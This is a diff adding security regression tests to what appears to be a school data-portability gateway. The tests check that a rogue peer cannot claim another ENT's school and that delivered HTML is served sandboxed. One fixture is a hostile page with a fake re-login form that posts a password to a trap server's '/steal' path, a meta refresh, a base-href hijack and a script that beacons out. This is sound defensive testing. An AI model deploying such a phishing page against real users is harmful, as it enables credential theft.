@@ -1,4 +1,6 @@
 import { createHash, randomUUID } from 'node:crypto';
+import { existsSync } from 'node:fs';
+import { chromium } from 'playwright-core';
 import { decodePart } from './support/hostile/jwt';
 import { ContentBehaviour, RoguePeer, startRecordingServer, startRoguePeer } from './support/hostile/rogue-peer';
 import { freePort } from './support/ports';
@@ -65,7 +67,7 @@ interface RogueItem {
 }
 
 /** The rogue peer offers and delivers `items` to B in marie's name; returns the offer id. */
-async function rogueTransfer(items: RogueItem[], departureUai = ROGUE_UAI, owner = 'marie.dupont'): Promise<{ offerId: string; offerStatus: number; offerBody: any }> {
+async function rogueTransfer(items: RogueItem[], departureUai = ROGUE_UAI, owner = 'marie.dupont', indexHtml?: Buffer): Promise<{ offerId: string; offerStatus: number; offerBody: any }> {
   const offerId = randomUUID();
   const offerRes = await fetch(`${env.stack.urls.gatewayB}/portability/v1/offers`, {
     method: 'POST',
@@ -83,6 +85,7 @@ async function rogueTransfer(items: RogueItem[], departureUai = ROGUE_UAI, owner
   const offerBody = await offerRes.json();
   if (offerRes.status !== 200) return { offerId, offerStatus: offerRes.status, offerBody };
   for (const i of items) rogue.content.set(i.itemId, i.behaviour);
+  if (indexHtml) rogue.content.set('index.html', { body: indexHtml });
   const manifest = rogue.signManifest({
     offerId,
     departureEntId: rogue.entId,
@@ -92,6 +95,9 @@ async function rogueTransfer(items: RogueItem[], departureUai = ROGUE_UAI, owner
       itemId: i.itemId, role: 'content', format: 'binary', mediaType: 'application/pdf', sizeBytes: i.bytes.length, sha256: sha256(i.bytes),
       contentUrl: `${rogue.url}/portability/v1/transfers/${offerId}/items/${i.itemId}/content`,
     })),
+    ...(indexHtml
+      ? { index: [{ name: 'index.html', mediaType: 'text/html; charset=utf-8', sizeBytes: indexHtml.length, sha256: sha256(indexHtml), contentUrl: `${rogue.url}/portability/v1/transfers/${offerId}/items/index.html/content` }] }
+      : {}),
   });
   const delivery = await fetch(`${env.stack.urls.gatewayB}/portability/v1/offers/${offerId}/deliveries`, {
     method: 'POST',
@@ -202,5 +208,96 @@ describe('deadlines and fairness: a trickling departure stalls nobody else (find
     const page = await marieB.request('GET', `/recus/${offerId}`);
     expect(await page.text()).toContain('répond trop lentement');
     rogue.content.delete('slow');
+  });
+});
+
+describe('departure school: a peer cannot pass for another ENT\'s school (finding 7)', () => {
+  it('refuses an offer whose departure UAI the calling peer does not serve, even when its own discovery lists it, and records nothing', async () => {
+    // The hostile peer publishes ENT A's school among its own: only the arrival's registry counts.
+    rogue.uais = [ROGUE_UAI, DEMO.uaiA];
+    try {
+      const bytes = Buffer.from('a false origin');
+      const refused = await rogueTransfer([{ itemId: 'origin', bytes, behaviour: { body: bytes } }], DEMO.uaiA);
+      expect(refused.offerStatus).toBe(422);
+      expect(refused.offerBody.type).toBe('urn:ent-portability:problem:unknown-departure');
+      expect(refused.offerBody.status).toBe(422);
+      // Nothing was recorded under that offer id: marie sees no such transfer…
+      expect((await marieB.request('GET', `/api/received/${refused.offerId}`)).status).toBe(404);
+      const list = await marieB.json('GET', '/api/received');
+      expect(JSON.stringify(list)).not.toContain(refused.offerId);
+      // …and the same id offered again from the peer's own school is a new offer, not a conflict.
+      const offerAgain = await fetch(`${env.stack.urls.gatewayB}/portability/v1/offers`, {
+        method: 'POST',
+        headers: { authorization: `Bearer ${await rogueToken('portability:offer')}`, 'content-type': 'application/json' },
+        body: JSON.stringify({
+          offerId: refused.offerId,
+          contractVersion: '1',
+          departure: { entId: rogue.entId, uai: ROGUE_UAI },
+          arrival: { uai: DEMO.uaiB },
+          owner: { identityClaim: 'sub', identity: 'marie.dupont' },
+          expiresAt: new Date(Date.now() + 86_400_000).toISOString(),
+          items: [{ itemId: 'origin', title: 'Document origin', category: 'STOCKAGE_PARTAGE', formats: [{ format: 'binary', mediaType: 'application/pdf', sizeBytes: bytes.length }] }],
+        }),
+      });
+      expect(offerAgain.status).toBe(200);
+    } finally {
+      rogue.uais = [ROGUE_UAI];
+    }
+  });
+});
+
+describe('the delivered index.html can do nothing on the gateway\'s origin (finding 5)', () => {
+  const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
+
+  it('serves the peer\'s page sandboxed: its off-site password form cannot submit, its meta refresh does not navigate, its script does not run', async () => {
+    const trap = await startRecordingServer('127.0.0.3', Buffer.from('trapped'));
+    const browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking'] });
+    try {
+      expect(existsSync(CHROMIUM)).toBe(true);
+      const page = Buffer.from(
+        `<!doctype html><html><head><title>Index</title><meta http-equiv="refresh" content="1;url=${trap.url}/refreshed"><base href="${trap.url}/based/"></head>` +
+          `<body><h1>Session expirée</h1><form id="phish" action="${trap.url}/steal" method="post"><input name="login" value="marie.dupont">` +
+          `<input type="password" name="password" value="secret"><button id="go" type="submit">Se reconnecter</button></form>` +
+          `<a id="rel" href="relative">suite</a><script>document.title = 'pwned'; fetch('${trap.url}/script-ran'); new Image().src = '${trap.url}/img-from-script';</script></body></html>`,
+      );
+      const bytes = Buffer.from('the content');
+      const { offerId } = await rogueTransfer([{ itemId: 'with-index', bytes, behaviour: { body: bytes } }], ROGUE_UAI, 'marie.dupont', page);
+      const path = `/api/received/${offerId}/index/index.html`;
+      await waitUntil('the index kept by the arrival', async () => (await marieB.request('GET', path)).status === 200, 120_000);
+
+      // In a real browser, with marie's session cookie on the gateway's origin.
+      const url = `${env.stack.urls.gatewayB}${path}`;
+      const context = await browser.newContext();
+      const cookies = marieB.jar.header(url).split(';').map((c) => c.trim()).filter(Boolean).map((c) => {
+        const eq = c.indexOf('=');
+        return { name: c.slice(0, eq), value: c.slice(eq + 1), url: env.stack.urls.gatewayB };
+      });
+      await context.addCookies(cookies);
+      const tab = await context.newPage();
+      const shown = await tab.goto(url);
+      expect(shown!.status()).toBe(200);
+      await tab.waitForTimeout(3000); // the refresh was due after 1 s
+      expect(tab.url()).toBe(url);
+      expect(await tab.title()).toBe('Index');
+      await tab.click('#go', { noWaitAfter: true }).catch(() => undefined);
+      await tab.waitForTimeout(2000);
+      expect(tab.url()).toBe(url);
+      expect(trap.hits).toEqual([]);
+      await context.close();
+
+      // What makes it so: the response headers.
+      const res = await marieB.request('GET', path);
+      const csp = res.headers.get('content-security-policy') ?? '';
+      const directives = csp.split(';').map((d) => d.trim());
+      expect(directives).toContain('sandbox');
+      expect(directives).toContain("default-src 'none'");
+      expect(directives).toContain("form-action 'none'");
+      expect(directives).toContain("frame-ancestors 'none'");
+      expect(directives).toContain("base-uri 'none'");
+      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
+    } finally {
+      await browser.close();
+      await trap.close();
+    }
   });
 });
